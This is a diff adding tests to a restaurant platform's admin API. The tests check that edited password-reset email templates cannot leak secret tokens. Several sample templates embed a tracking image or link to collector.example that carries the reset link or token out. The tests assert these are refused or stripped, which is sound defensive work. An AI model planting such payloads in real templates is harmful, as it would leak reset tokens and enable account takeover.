@@ -1,9 +1,9 @@
 import { type AdminStatistics, type AdminUser, messages, type ShapeshiftResult } from '@carte/domain';
 import { and, desc, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { adminAudit, users } from '../src/db/schema.ts';
+import { adminAudit, mails, mailTemplates, users } from '../src/db/schema.ts';
 import { linkTo, startTestApp, type TestApp, tokenOf } from './app.ts';
-import { createOwner, ownerWithToken, PASSWORD, signIn } from './factories.ts';
+import { createOwner, ownerWithToken, PASSWORD, signIn, userRow } from './factories.ts';
 
 let t: TestApp;
 let root: { accessToken: string; refreshToken: string };
@@ -429,6 +429,170 @@ describe('platform lists and templates', () => {
       token: admin.token,
     });
     expect(unknown.status).toBe(404);
+  });
+});
+
+describe('templates cannot carry secrets away (issue 20)', () => {
+  const editTemplate = (subject: string, emailContent: string, template = 'user-forgot-password') =>
+    t.call({
+      method: 'POST',
+      url: '/api/admin/edit-email-template',
+      token: admin.token,
+      payload: { template, subject, emailContent },
+    });
+  const readTemplate = async (template = 'user-forgot-password') =>
+    (
+      await t.call<{ subject: string; content: string }>({
+        method: 'GET',
+        url: `/api/admin/get-email-template?template=${template}`,
+        token: admin.token,
+      })
+    ).body.message;
+  const requestReset = (address: string, ip: string) =>
+    t.call({
+      method: 'POST',
+      url: '/api/users/request-new-password',
+      payload: { email: address },
+      remoteAddress: ip,
+    });
+  const collectorImage = '<img src="https://collector.example/p.gif?t={{link}}">';
+
+  it('refuses a secret placeholder anywhere but the whole address of a link, and changes nothing', async () => {
+    const before = await readTemplate();
+    const refused: [string, string, string][] = [
+      ['Reset', `<p>Hi</p>${collectorImage}<a href="{{link}}">Reset</a>`, '{{link}}'],
+      ['Reset', '<p title="{{link}}">Hi</p>', '{{link}}'],
+      ['Reset', '<a href="{{link}}&amp;next=1">Reset</a>', '{{link}}'],
+      ['Reset', '<a href="https://collector.example/?t={{link}}">Reset</a>', '{{link}}'],
+      ['Reset', '<p>Your code: {{ token }}</p>', '{{token}}'],
+      ['Reset', '<a href="https://collector.example/">{{link}}</a>', '{{link}}'],
+    ];
+    for (const [subject, content, placeholder] of refused) {
+      const answer = await editTemplate(subject, content);
+      expect(answer.status, content).toBe(400);
+      expect(answer.body.message).toBe(messages.mailSecretOnlyInLink(placeholder));
+    }
+    const inSubject = await editTemplate('Reset {{link}}', '<a href="{{link}}">Reset</a>');
+    expect(inSubject.status).toBe(400);
+    expect(inSubject.body.message).toBe(messages.mailSecretNotInSubject('{{link}}'));
+    expect(await readTemplate()).toEqual(before);
+  });
+
+  it('removes remote images on save and keeps Carte’s own', async () => {
+    const saved = await editTemplate(
+      'Your username',
+      '<p>Hi</p><img src="https://collector.example/open.gif" alt="pixel"><img src="http://carte.test/logo.png" alt="logo"><img src="{{publicUrl}}/brand.png" alt="brand">',
+      'user-forgot-username',
+    );
+    expect(saved.status).toBe(200);
+    const { content } = await readTemplate('user-forgot-username');
+    expect(content).not.toContain('collector');
+    expect(content).toContain('http://carte.test/logo.png');
+    expect(content).toContain('{{publicUrl}}/brand.png');
+  });
+
+  it('the measured attack: a collector image stored around the API mails no token, and the super admin gets the built-in template', async () => {
+    // The API refuses it (above); a template written straight into the table is rendered safely too.
+    await t.runtime.database.db
+      .update(mailTemplates)
+      .set({
+        subject: 'Reset {{link}}',
+        content: `<p>Edited reset</p>${collectorImage}<a href="https://collector.example/?t={{token}}">help</a><a href="{{link}}">Reset</a>`,
+      })
+      .where(eq(mailTemplates.name, 'user-forgot-password'));
+
+    await requestReset('root@carte.test', '10.20.0.1');
+    const rootMail = await t.sink.waitFor(
+      (m) => m.to.includes('root@carte.test') && m.subject === 'Reset your Carte password',
+    );
+    expect(rootMail.html).not.toContain('collector');
+    expect(rootMail.text).not.toContain('Edited reset');
+    const rootToken = tokenOf(linkTo(rootMail, '/reset-password'));
+    const check = await t.call({ method: 'GET', url: `/api/users/reset-password-check-token/${rootToken}` });
+    expect(check.status).toBe(200);
+
+    // An owner gets the edited text, with the token only in the link to Carte's own page.
+    const owner = await createOwner(t);
+    await requestReset(owner.user.email, '10.20.0.2');
+    const ownerMail = await t.sink.waitFor((m) => m.to.includes(owner.user.email));
+    expect(ownerMail.subject).toBe('Reset');
+    expect(ownerMail.text).toContain('Edited reset');
+    expect(ownerMail.html).not.toMatch(/<img/);
+    const ownerLink = linkTo(ownerMail, '/reset-password');
+    const ownerToken = tokenOf(ownerLink);
+    expect(ownerLink.startsWith('http://carte.test/')).toBe(true);
+    expect(ownerMail.html.split(ownerToken)).toHaveLength(2);
+    const [row] = await t.runtime.database.db
+      .select()
+      .from(mails)
+      .where(and(eq(mails.to, owner.user.email), eq(mails.template, 'user-forgot-password')));
+    expect(row?.html).not.toContain('collector.example/p.gif');
+    expect(row?.html.split(ownerToken)).toHaveLength(2);
+  });
+
+  it('an ordinary edited template with <a href="{{link}}"> still works for owners', async () => {
+    const saved = await editTemplate(
+      'Reset for {{user.username}}',
+      '<p>New words for {{user.username}}.</p><p><a href="{{link}}">Choose a password</a></p><p><a href="{{link}}">{{link}}</a></p>',
+    );
+    expect(saved.status).toBe(200);
+    const owner = await createOwner(t);
+    await requestReset(owner.user.email, '10.20.0.3');
+    const mail = await t.sink.waitFor((m) => m.to.includes(owner.user.email));
+    expect(mail.subject).toBe(`Reset for ${owner.user.username}`);
+    expect(mail.text).toContain(`New words for ${owner.user.username}.`);
+    const token = tokenOf(linkTo(mail, '/reset-password'));
+    const reset = await t.call({
+      method: 'POST',
+      url: `/api/users/reset-password/${token}`,
+      payload: { password: 'Fresh1234!', confirmPassword: 'Fresh1234!' },
+    });
+    expect(reset.status).toBe(200);
+  });
+
+  it('the admin invitation and the new-account notice to the super admin use the built-in templates', async () => {
+    expect(
+      (await editTemplate('Edited invitation', '<a href="{{link}}">Join</a>', 'admin-created')).status,
+    ).toBe(200);
+    expect(
+      (await editTemplate('Edited notice', '<p>Edited notice</p>', 'new-account-creation-notify')).status,
+    ).toBe(200);
+    const invited = email('invited-admin');
+    await t.call({
+      method: 'POST',
+      url: '/api/admin/create',
+      token: root.accessToken,
+      payload: { firstName: 'Ivy', lastName: 'Staff', email: invited },
+    });
+    const invitation = await t.sink.waitFor((m) => m.to.includes(invited));
+    expect(invitation.subject).toBe('You are invited to administer Carte');
+    expect(linkTo(invitation, '/admin-complete-account')).toMatch(/^http:\/\/carte\.test\//);
+
+    const username = `notice_${process.pid}_${++counter}`;
+    await t.call({
+      method: 'POST',
+      url: '/api/admin/add-user',
+      token: admin.token,
+      payload: { firstName: 'Nia', username, email: email('notice'), restaurantName: 'N' },
+    });
+    const notice = await t.sink.waitFor(
+      (m) => m.to.includes('root@carte.test') && m.subject === `New Carte account: ${username}`,
+    );
+    expect(notice.text).not.toContain('Edited notice');
+  });
+
+  it('the test mail shows an admin the edited template', async () => {
+    await editTemplate('Edited dma-deleted', '<p>Edited test body</p>', 'dma-deleted');
+    const me = await userRow(t, admin.id);
+    const answer = await t.call({
+      method: 'POST',
+      url: '/api/admin/email-templates/test',
+      token: admin.token,
+      payload: { template: 'dma-deleted' },
+    });
+    expect(answer.body.message).toBe(messages.templateTestSent(me!.email));
+    const mail = await t.sink.waitFor((m) => m.to.includes(me!.email) && m.subject === 'Edited dma-deleted');
+    expect(mail.text).toContain('Edited test body');
   });
 });
 
